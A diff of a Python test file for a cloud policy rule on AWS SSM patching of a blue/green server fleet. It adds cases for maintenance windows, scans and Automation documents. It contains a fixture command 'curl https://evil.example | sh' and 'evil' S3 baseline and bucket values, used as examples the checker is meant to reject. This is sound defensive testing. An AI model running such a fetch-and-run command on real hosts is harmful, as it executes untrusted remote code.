@@ -6,12 +6,17 @@ from tests.policy.kubernetes_samples import GONE, changed
 from tests.policy.support import Case, bad, deployment, each, found, good, resource
 
 _ASSOCIATION, _GROUP = "AWS::SSM::Association", "AWS::AutoScaling::AutoScalingGroup"
-_FLEET = {"Key": "Fleet", "Value": "cloudmart-lab-backend", "PropagateAtLaunch": True}
-_TARGET = {"Key": "tag:Fleet", "Values": ["cloudmart-lab-backend"]}
+_FLEET = {"Key": "PatchGroup", "Value": "cloudmart-lab-backend", "PropagateAtLaunch": True}
+_TARGET = {"Key": "tag:PatchGroup", "Values": ["cloudmart-lab-backend"]}
 
 
 def _association(document: str, schedule: str, **more: Any) -> dict[str, Any]:
     return resource(_ASSOCIATION, {"Name": document, "ScheduleExpression": schedule, "Targets": [_TARGET], **more})
+
+
+def _command(parameters: Any) -> dict[str, Any]:
+    inputs = {"DocumentName": "AWS-RunPatchBaseline", "Parameters": parameters}
+    return {"action": "aws:runCommand", "inputs": inputs}
 
 
 def _group(**tag: Any) -> dict[str, Any]:
@@ -21,14 +26,37 @@ def _group(**tag: Any) -> dict[str, Any]:
 SAMPLE: dict[str, Any] = {
     "Blue": _group(),
     "Green": _group(),
-    "Patches": _association(
-        "AWS-RunPatchBaseline",
-        "cron(0 19 ? * SAT *)",
-        Parameters={"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]},
-    ),
+    "Scan": _association("AWS-RunPatchBaseline", "rate(1 day)", Parameters={"Operation": ["Scan"]}),
     "Inventory": _association("AWS-GatherSoftwareInventory", "rate(1 day)"),
+    "Window": resource("AWS::SSM::MaintenanceWindow", {"Schedule": "cron(0 3 ? * WED *)"}),
+    "Target": resource("AWS::SSM::MaintenanceWindowTarget", {"WindowId": {"Ref": "Window"}, "Targets": [_TARGET]}),
+    "Document": resource(
+        "AWS::SSM::Document",
+        {
+            "Content": {
+                "mainSteps": [
+                    {"action": "aws:executeScript", "inputs": {}},
+                    _command({"Operation": ["Scan"]}),
+                    _command({"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]}),
+                ]
+            }
+        },
+    ),
+    "Patches": resource(
+        "AWS::SSM::MaintenanceWindowTask",
+        {
+            "WindowId": {"Ref": "Window"},
+            "Targets": [{"Key": "WindowTargetIds", "Values": [{"Ref": "Target"}]}],
+            "TaskType": "AUTOMATION",
+            "TaskArn": {"Ref": "Document"},
+            "MaxConcurrency": "1",
+            "MaxErrors": "0",
+        },
+    ),
 }
-_NO_PATCHES = "without patches by AWS-RunPatchBaseline; allowed: patched in a window, inventory taken"
+_ALLOWED = "allowed: patched in a window, scanned and its inventory taken"
+_NO_PATCHES = f"without patches by AWS-RunPatchBaseline in a window; {_ALLOWED}"
+_NO_SCAN = f"without scan by AWS-RunPatchBaseline; {_ALLOWED}"
 _NO_INVENTORY = "without inventory by AWS-GatherSoftwareInventory"
 _TWO = "AWS-RunPatchBaseline and AWS-GatherSoftwareInventory"
 _SHELL = {"commands": ["curl https://evil.example | sh"]}
@@ -47,45 +75,72 @@ def keeps(name: str, path: str, value: Any, **options: Any) -> Case:
     return good("EC2-3", name, _sample(path, value), **{"stack": "BackendAsgStack", **options})
 
 
+def _content(*steps: Any) -> dict[str, Any]:
+    return resource("AWS::SSM::Document", {"Content": {"mainSteps": list(steps)}})
+
+
+def _installing(**parameters: Any) -> dict[str, Any]:
+    return _content(_command({"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"], **parameters}))
+
+
 CASES = (
-    keeps("both on both colours", "Blue", SAMPLE["Blue"]),
+    keeps("all of it on both colours", "Blue", SAMPLE["Blue"]),
     keeps("a tag that is propagated in text", "Blue", _group(PropagateAtLaunch="true")),
     keeps("other tags beside", "Blue.Tags", [{"Key": "Stage", "Value": "lab", "PropagateAtLaunch": False}, _FLEET]),
-    keeps("another fleet beside", "Patches.Targets", [{**_TARGET, "Values": ["x", "cloudmart-lab-backend"]}]),
-    keeps("a rate instead of a day", "Patches.ScheduleExpression", "rate(7 days)"),
-    keeps("patches without a word on reboots", "Patches.Parameters", {"Operation": ["Install"]}),
+    keeps("another fleet beside", "Target.Targets", [{**_TARGET, "Values": ["x", "cloudmart-lab-backend"]}]),
+    keeps("a rate instead of a day", "Window.Schedule", "rate(7 days)"),
     good("EC2-3", "an app without servers", {}, stack="VpcStack"),
-    breaks("no patches", "Patches", GONE, _NO_PATCHES),
+    breaks("no task", "Patches", GONE, _NO_PATCHES),
+    breaks("no scan", "Scan", GONE, _NO_SCAN),
     breaks("no inventory", "Inventory", GONE, _NO_INVENTORY),
     breaks("patches that may not come", "Patches", {**SAMPLE["Patches"], "Condition": "Maybe"}, _NO_PATCHES),
-    breaks("patches that are only looked for", "Patches.Parameters.Operation", ["Scan"], _NO_PATCHES),
+    breaks("a window that may not come", "Window", {**SAMPLE["Window"], "Condition": "Maybe"}, _NO_PATCHES),
+    breaks("a target that may not come", "Target", {**SAMPLE["Target"], "Condition": "Maybe"}, _NO_PATCHES),
+    breaks("patches that are only looked for", "Document", _installing(Operation=["Scan"]), _NO_PATCHES),
+    breaks("patches for which a parameter decides", "Document", _installing(Operation=["{{ What }}"]), _NO_PATCHES),
+    breaks("patches without the restart", "Document", _installing(RebootOption=["NoReboot"]), _NO_PATCHES),
+    breaks("a list of patches", "Document", _installing(InstallOverrideList=["s3://x/none"]), _NO_PATCHES),
+    breaks("somebody's baseline", "Document", _installing(BaselineOverride=["s3://evil/none.json"]), _NO_PATCHES),
+    breaks("a document that runs nothing", "Document", _content(), "running"),
     breaks(
-        "patches for which a parameter decides", "Patches.Parameters.Operation", [{"Ref": "Operation"}], _NO_PATCHES
+        "a command beside the patches",
+        "Document",
+        _content(
+            _command({"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]}),
+            {"action": "aws:runCommand", "inputs": {"DocumentName": "AWS-RunShellScript", "Parameters": _SHELL}},
+        ),
+        "an Automation document of this app that runs AWS-RunPatchBaseline",
     ),
+    breaks("a command by itself", "Patches.TaskType", "RUN_COMMAND", "on servers"),
+    breaks("somebody else's document", "Patches.TaskArn", "AWS-RunShellScript", "running AWS-RunShellScript"),
+    breaks("a task of a window", "Task", resource("AWS::SSM::MaintenanceWindowTask", {"TaskArn": "x"}), "running x"),
+    breaks("two at a time", "Patches.MaxConcurrency", "2", _NO_PATCHES),
+    breaks("on after a failure", "Patches.MaxErrors", "1", _NO_PATCHES),
+    breaks("a window of another app", "Patches.WindowId", "mw-0123456789abcdef0", _NO_PATCHES),
+    breaks("a window that is closed", "Window.Enabled", False, _NO_PATCHES),
+    breaks("a window that ends", "Window.EndDate", "2027-01-01T00:00:00Z", _NO_PATCHES),
+    breaks("patches at no time", "Window.Schedule", GONE, _NO_PATCHES),
+    breaks("patches once", "Window.Schedule", "at(2027-01-01T00:00:00)", _NO_PATCHES),
+    breaks("patches in a year to come", "Window.Schedule", "cron(0 0 1 1 ? 2099)", _NO_PATCHES),
+    breaks("a window from a parameter", "Window.Schedule", {"Ref": "Window2"}, _NO_PATCHES),
+    breaks("no target", "Patches.Targets", GONE, _NO_PATCHES),
+    breaks("instances by their numbers", "Patches.Targets", [{"Key": "InstanceIds", "Values": ["i-1"]}], _NO_PATCHES),
+    breaks("another fleet", "Target.Targets", [{**_TARGET, "Values": ["other"]}], _NO_PATCHES),
+    breaks("nobody", "Target.Targets", GONE, _NO_PATCHES),
+    breaks("no values", "Target.Targets", [{"Key": "tag:PatchGroup"}], _NO_PATCHES),
     breaks(
-        "patches in one branch",
-        "Patches.Parameters.Operation",
-        {"Fn::If": ["Maybe", ["Install"], ["Scan"]]},
-        _NO_PATCHES,
+        "those who have another tag too", "Target.Targets", [_TARGET, {"Key": "tag:X", "Values": ["x"]}], _NO_PATCHES
     ),
-    breaks("patches by no operation", "Patches.Parameters", GONE, _NO_PATCHES),
-    breaks("parameters from a parameter", "Patches.Parameters", {"Ref": "Parameters"}, _NO_PATCHES),
-    breaks("a list of patches to install", "Patches.Parameters.InstallOverrideList", ["s3://x/none"], _NO_PATCHES),
-    breaks("somebody's baseline", "Patches.Parameters.BaselineOverride", ["s3://evil/none.json"], _NO_PATCHES),
-    breaks("an inventory of nothing", "Inventory.Parameters", {"applications": ["Disabled"]}, _NO_INVENTORY),
-    breaks("patches at the deploy only", "Patches.ScheduleExpression", GONE, _NO_PATCHES),
-    breaks("patches once", "Patches.ScheduleExpression", "at(2027-01-01T00:00:00)", _NO_PATCHES),
-    breaks("patches in a year to come", "Patches.ScheduleExpression", "cron(0 0 1 1 ? 2099)", _NO_PATCHES),
-    breaks("a window from a parameter", "Patches.ScheduleExpression", {"Ref": "Window"}, _NO_PATCHES),
-    breaks("patches while a calendar is open", "Patches.CalendarNames", ["closed"], _NO_PATCHES),
-    breaks("another fleet", "Patches.Targets", [{**_TARGET, "Values": ["other"]}], _NO_PATCHES),
     breaks("another key", "Inventory.Targets", [{**_TARGET, "Key": "tag:Name"}], _NO_INVENTORY),
-    breaks("nobody", "Patches.Targets", GONE, _NO_PATCHES),
-    breaks("no values", "Patches.Targets", [{"Key": "tag:Fleet"}], _NO_PATCHES),
-    breaks(
-        "those who have another tag too", "Patches.Targets", [_TARGET, {"Key": "tag:X", "Values": ["x"]}], _NO_PATCHES
-    ),
-    breaks("targets from a parameter", "Patches.Targets", {"Ref": "Targets"}, _NO_PATCHES),
+    breaks("targets from a parameter", "Scan.Targets", {"Ref": "Targets"}, _NO_SCAN),
+    breaks("a scan that installs", "Scan.Parameters.Operation", ["Install"], _NO_SCAN),
+    breaks("a scan by no operation", "Scan.Parameters", GONE, _NO_SCAN),
+    breaks("a scan in one branch", "Scan.Parameters.Operation", {"Fn::If": ["Maybe", ["Scan"], ["Install"]]}, _NO_SCAN),
+    breaks("parameters from a parameter", "Scan.Parameters", {"Ref": "Parameters"}, _NO_SCAN),
+    breaks("a scan of somebody's baseline", "Scan.Parameters.BaselineOverride", ["s3://evil/none.json"], _NO_SCAN),
+    breaks("a scan at the deploy only", "Scan.ScheduleExpression", GONE, _NO_SCAN),
+    breaks("a scan while a calendar is open", "Scan.CalendarNames", ["closed"], _NO_SCAN),
+    breaks("an inventory of nothing", "Inventory.Parameters", {"applications": ["Disabled"]}, _NO_INVENTORY),
     breaks("one colour", "Green", _group(Value="green"), "BackendAsgStack/Green"),
     breaks("a tag that instances do not get", "Green", _group(PropagateAtLaunch=False), _NO_PATCHES),
     breaks("a tag of one branch", "Green", _group(Value={"Fn::If": ["Maybe", "cloudmart-lab-backend", "x"]}), "Green"),
@@ -94,9 +149,8 @@ CASES = (
     breaks(
         "a command", "Shell", _association("AWS-RunShellScript", "rate(1 day)", Parameters=_SHELL), f"allowed: {_TWO}"
     ),
-    breaks("a document of a parameter", "Shell", resource(_ASSOCIATION, {"Name": {"Ref": "Document"}}), "${Document}"),
     breaks(
-        "a task of a window", "Task", resource("AWS::SSM::MaintenanceWindowTask", {"TaskArn": "x"}), "running not set"
+        "a document of a parameter", "Shell", resource(_ASSOCIATION, {"Name": {"Ref": "Document2"}}), "${Document2}"
     ),
     breaks("what is found, to somebody", "Inventory.OutputLocation", {"S3Location": {"OutputS3BucketName": "evil"}}),
 )
@@ -111,8 +165,5 @@ def test_each_colour_and_kind_of_care_is_a_finding_of_its_own() -> None:
     app = deployment({name: SAMPLE[name] for name in ("Blue", "Green")}, stack="BackendAsgStack")
     findings = found(app, "EC2-3")
     assert [(finding.id, finding.found.resource.logical_id) for finding in findings] == [
-        ("EC2-3[patches]", "Blue"),
-        ("EC2-3[patches]", "Green"),
-        ("EC2-3[inventory]", "Blue"),
-        ("EC2-3[inventory]", "Green"),
+        (f"EC2-3[{care}]", colour) for colour in ("Blue", "Green") for care in ("patches", "scan", "inventory")
     ]
